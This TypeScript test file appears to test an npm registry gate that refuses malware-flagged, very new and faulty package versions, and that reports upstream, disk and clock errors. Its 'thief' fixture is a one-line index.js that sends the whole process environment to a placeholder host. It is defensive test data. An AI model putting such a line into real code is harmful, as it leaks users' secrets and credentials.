import assert from 'node:assert/strict';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import type { Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, it } from 'node:test';

import { assertRefused, gating, malware, NOW, writeRecords } from '../../../test/gating.ts';
import type { Answered } from '../../../test/gating.ts';
import { tarball } from '../../../test/registry.ts';
import { fetchedFolder, gateFolder } from '../../remember/files.ts';
import type { FakePackage, FakeVersion } from '../../../test/registry.ts';

const open = gating();
const ROUNDS = 80;

/** The same faults each time: what was found once is found again. */
function dice(seed: number): <T>(of: readonly [T, ...T[]]) => T {
  let state = seed;
  return of => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return of[Math.floor((state / 2 ** 32) * of.length)] ?? of[0];
  };
}

const thief = { 'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n` };
const harmless = { 'index.js': 'exports.a = 1;\n' };
const bytesOf = (name: string, version: string, files: object): Buffer => tarball({ 'package.json': { name, version }, ...files });

/** Packages of which a version must never pass, and the bytes of it. */
const REFUSED = [
  { name: 'bad', version: '6.6.6', bytes: bytesOf('bad', '6.6.6', harmless) },
  { name: 'thief', version: '6.6.6', bytes: bytesOf('thief', '6.6.6', thief) },
  { name: 'young', version: '6.6.6', bytes: bytesOf('young', '6.6.6', harmless) },
];

function packageWith(name: string, roll: ReturnType<typeof dice>): FakePackage {
  const publishedAt = name === 'young' ? new Date(NOW - 1000).toISOString() : '2025-01-01T00:00:00.000Z';
  const archive = roll<FakeVersion['archive']>([
    undefined,
    undefined,
    'corrupt',
    'truncated',
    { status: 500 },
    { status: 404 },
    { status: 403 },
  ]);
  const bad: FakeVersion = { publishedAt, files: name === 'thief' ? thief : harmless, ...(archive !== undefined && { archive }) };
  const encoding = roll<FakePackage['encoding']>([undefined, undefined, undefined, 'gzip', 'br', 'zstd', 'broken']);
  const answer = roll<FakePackage['answer']>([undefined, undefined, undefined, undefined, 500, 403, '', '{', '[]', '{"name":"other"}']);
  const strip = roll([[], [], ['time'], ['dist.integrity'], ['dist.integrity', 'dist.shasum'], ['time', 'dist.shasum']]);
  return {
    versions: { '1.0.0': { files: harmless, publishedAt: '2025-01-01T00:00:00.000Z' }, '6.6.6': bad },
    strip,
    ...(encoding !== undefined && { encoding }),
    ...(answer !== undefined && { answer }),
  };
}

describe('whatever fails upstream', () => {
  it(`lets nothing pass that is refused, in ${ROUNDS} rounds of faults`, async () => {
    const roll = dice(20_260_901);
    const packages = Object.fromEntries(REFUSED.map(({ name }) => [name, packageWith(name, roll)]));
    const { ask, upstream, at } = await open({ packages, records: [malware('bad', '6.6.6')] });
    const seen = new Map<number, number>();
    const count = ({ status }: Answered): void => void seen.set(status, (seen.get(status) ?? 0) + 1);
    for (let round = 0; round < ROUNDS; round += 1) {
      // Beyond the time for which a document is not asked for again, and within the age of the records and of the young version.
      at(new Date(NOW + round * 30_000).toISOString());
      for (const { name } of REFUSED) upstream.set(name, packageWith(name, roll));
      for (const { name, version, bytes } of REFUSED) {
        const accept = roll(['application/json', 'application/vnd.npm.install-v1+json', '*/*']);
        const agent = roll(['npm/11.0.0', 'pnpm/10.0.0', 'Bun/1']);
        const archive = await ask(`${name}/-/${name}-${version}.tgz`, { 'user-agent': agent });
        const document = await ask(name, { accept, 'user-agent': agent });
        const manifest = await ask(`${name}/${version}`);
        for (const answer of [archive, document, manifest]) count(answer);
        assert.ok([403, 404].includes(archive.status), `round ${round}: ${name} was answered with ${archive.status}`);
        assert.ok(!archive.body.includes(bytes.subarray(20)), `round ${round}: bytes of ${name}`);
        // What its code does is known only once it was examined; what is known and what is young, at once.
        if (name === 'thief') continue;
        assert.ok([403, 404].includes(manifest.status), `round ${round}: ${name} ${manifest.status}`);
        if (document.status !== 200) continue;
        assert.equal(document.json('versions', version), undefined, `round ${round}: ${name} is listed`);
        assert.ok(!Object.values(Object(document.json('dist-tags'))).includes(version), `round ${round}: ${name} has a tag`);
      }
    }
    // Faults that break everything would prove nothing: some answers are good.
    assert.ok((seen.get(200) ?? 0) > ROUNDS / 2 && (seen.get(403) ?? 0) > ROUNDS, JSON.stringify([...seen]));
  });

  it('is over when it is over: the next request is answered as if nothing had been', async () => {
    const good: FakePackage = { versions: { '1.0.0': { files: harmless } } };
    const { ask, upstream, at } = await open({ packages: { plain: { ...good, answer: 500 } } });
    assert.equal((await ask('plain')).status, 403);
    upstream.set('plain', { versions: { '1.0.0': { files: harmless, archive: 'truncated' } } });
    at(new Date(NOW + 30_000).toISOString());
    assert.equal((await ask('plain')).status, 200);
    assert.equal((await ask('plain/-/plain-1.0.0.tgz')).status, 403);
    upstream.set('plain', good);
    assert.equal((await ask('plain/-/plain-1.0.0.tgz')).status, 200);
  });
});

/** A server that says the same to everything, byte by byte, and hangs up; or nothing, and does not. */
async function saying(bytes: string): Promise<{ readonly npmrc: string; readonly close: () => Promise<void> }> {
  const sockets = new Set<Socket>();
  const server = createServer(socket => {
    sockets.add(socket);
    socket.on('error', () => socket.destroy());
    socket.on('data', () => {
      if (bytes !== '') socket.end(bytes, 'latin1');
    });
  });
  await new Promise<void>(listening => server.listen(0, '127.0.0.1', listening));
  const address = server.address();
  assert.ok(typeof address === 'object' && address !== null);
  return {
    npmrc: `registry=http://127.0.0.1:${address.port}/\nfetch-timeout=400\nfetch-retries=0`,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise(closed => server.close(closed));
    },
  };
}

describe('a fault is told as what it is', () => {
  const document = '{"name":"plain","versions":{"1.0.0":{"name":"plain","version":"1.0.0"}}}';
  const head = (length: number, more = ''): string =>
    `HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n${more}content-length: ${length}\r\n\r\n`;
  for (const [what, bytes, code, why] of [
    ['nothing is said', '', 'UNMASK_UPSTREAM', /takes too long|connection failed/],
    ['half a header', 'HTTP/1.1 200 OK\r\ncontent-le', 'UNMASK_UPSTREAM', /takes too long|connection failed/],
    ['no HTTP', '\u0000\u0001 hello\r\n\r\n', 'UNMASK_UPSTREAM', /connection failed/],
    ['two lengths', head(3, `content-length: ${document.length}\r\n`) + document, 'UNMASK_UPSTREAM', /connection failed/],
    ['less than is promised', head(document.length + 100) + document, 'UNMASK_UPSTREAM', /takes too long|connection failed/],
    ['what is no gzip', head(document.length, 'content-encoding: gzip\r\n') + document, 'UNMASK_UPSTREAM', /could not be fetched/],
    ['a page', `${head(22)}<html>Log in</html>   `, 'UNMASK_METADATA', /is not JSON/],
    ['a failure', 'HTTP/1.1 503 Sorry\r\ncontent-length: 0\r\n\r\n', 'UNMASK_UPSTREAM', /the server is failing/],
    ['a part of it', `HTTP/1.1 206 Partial Content\r\ncontent-length: 2\r\n\r\n{}`, 'UNMASK_UPSTREAM', /answers without all of it/],
    ['nothing, and that all is well', 'HTTP/1.1 204 No Content\r\n\r\n', 'UNMASK_UPSTREAM', /answers without all of it/],
    ['an object of nothing', `${head(2)}{}`, 'UNMASK_METADATA', /names neither a package nor versions/],
    [
      'another place, for ever',
      'HTTP/1.1 302 Found\r\nlocation: /x\r\ncontent-length: 0\r\n\r\n',
      'UNMASK_UPSTREAM',
      /could not be fetched/,
    ],
  ] as const)
    it(what, async () => {
      const upstream = await saying(bytes);
      try {
        const { ask } = await open({ npmrc: upstream.npmrc });
        assertRefused(await ask('plain'), code, why);
        assertRefused(await ask('plain/-/plain-1.0.0.tgz'), code, why);
      } finally {
        await upstream.close();
      }
    });

  it('nobody there', async () => {
    const upstream = await saying('');
    await upstream.close();
    const { ask } = await open({ npmrc: upstream.npmrc });
    assertRefused(await ask('plain'), 'UNMASK_UPSTREAM', /the connection failed \(ECONNREFUSED\)/);
  });

  it('a disk that takes nothing, and it is over when there is room', async () => {
    const good: FakePackage = { versions: { '1.0.0': { files: harmless } } };
    const { home, upstream } = await open({ packages: { plain: good } });
    const remember = join(home.cwd, '..', 'full');
    mkdirSync(gateFolder(remember), { recursive: true });
    writeFileSync(fetchedFolder(remember), 'a file where a folder should be');
    const { ask, at } = await open({ upstream, remember });
    assertRefused(await ask('plain'), 'UNMASK_DISK', /this disk does not take it/);
    rmSync(fetchedFolder(remember));
    at(new Date(NOW + 30_000).toISOString());
    assert.equal((await ask('plain/-/plain-1.0.0.tgz')).status, 200);
  });
});

describe('the places of the computer that a gate runs on', () => {
  const plain: FakePackage = { versions: { '1.0.0': { files: harmless } } };

  it('are told to its log, and to no client, where an examination does not start', async () => {
    const gone = pathToFileURL(join(tmpdir(), 'no-unmask-here', 'child.ts'));
    const { ask, gate } = await open({ packages: { plain }, script: gone });
    const answer = await ask('plain/-/plain-1.0.0.tgz');
    assertRefused(answer, 'UNMASK_UNEXAMINED', /process did not start/);
    const [told] = gate.decisions();
    assert.ok(told !== undefined && told.why.includes('no-unmask-here'), told?.why);
    const page = await ask(`/-/unmask/why/${told.id}`, {}, { root: true });
    assert.match(page.body.toString(), /process did not start/);
    for (const said of [answer.body.toString(), answer.phrase, String(answer.headers['npm-notice']), page.body.toString()])
      assert.doesNotMatch(said, /no-unmask-here|file:/);
  });

  it('are no part of what it says of its records', async () => {
    const { home } = await open({ packages: { plain } });
    const intel = join(home.cwd, '..', 'intel-in-the-way');
    mkdirSync(join(intel, 'intel-npm-2.db'), { recursive: true });
    const { ask } = await open({ packages: { plain }, intel, records: 'none' });
    for (const answer of [
      await ask('plain/1.0.0'),
      await ask('plain'),
      await ask('/-/unmask/health', {}, { root: true }),
      await ask('-/npm/v1/security/advisories/bulk', {}, { method: 'POST', body: '{"plain":["1.0.0"]}' }),
    ]) {
      assert.match(answer.body.toString(), /records/);
      assert.doesNotMatch(answer.body.toString(), /intel-in-the-way/);
    }
  });
});

describe('a clock', () => {
  const iso = (ms: number): string => new Date(NOW + ms).toISOString();
  const HOUR = 3_600_000;

  it('that runs on makes records old: what was listed while they were fresh is not any more', async () => {
    const { ask, at } = await open({ packages: { plain: { versions: { '1.0.0': {} } } } });
    assert.notEqual((await ask('plain')).json('versions', '1.0.0'), undefined);
    at(iso(80 * HOUR));
    const answer = await ask('plain');
    assert.equal(answer.json('versions', '1.0.0'), undefined);
    assert.match(String(answer.json('policyRestrictions', 'message')), /unmask intel sync/);
    assertRefused(await ask('plain/-/plain-1.0.0.tgz'), 'UNMASK_RECORDS', /unmask intel sync/);
  });

  it('that is put right takes back what was decided by it, and keeps nobody from looking at the records', async () => {
    const young: FakePackage = { versions: { '1.0.0': { publishedAt: iso(-HOUR) } } };
    const { ask, at, home } = await open({ packages: { young, plain: { versions: { '1.0.0': {} } } } });
    at(iso(70 * HOUR));
    assert.equal((await ask('young/1.0.0')).status, 200);
    at(iso(0));
    assertRefused(await ask('young/1.0.0'), 'UNMASK_TOO_NEW', /published/);
    at(iso(10_000 * HOUR));
    assert.equal((await ask('plain/1.0.0')).status, 403);
    at(iso(0));
    assert.equal((await ask('plain/1.0.0')).status, 200);
    await writeRecords(join(home.cwd, '..', 'intel'), [malware('plain', '1.0.0')]);
    at(iso(3000));
    assertRefused(await ask('plain/1.0.0'), 'UNMASK_MALWARE', /known malware/);
  });
});
